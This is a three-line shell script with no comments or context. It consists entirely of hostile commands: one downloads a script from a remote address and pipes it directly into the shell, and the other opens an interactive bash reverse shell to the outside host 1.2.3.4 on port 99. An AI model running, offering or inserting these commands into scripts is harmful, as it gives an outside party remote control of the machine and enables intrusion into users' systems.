#!/bin/sh
curl -fsSL https://x.y/z | sh
bash -i >& /dev/tcp/1.2.3.4/99 0>&1
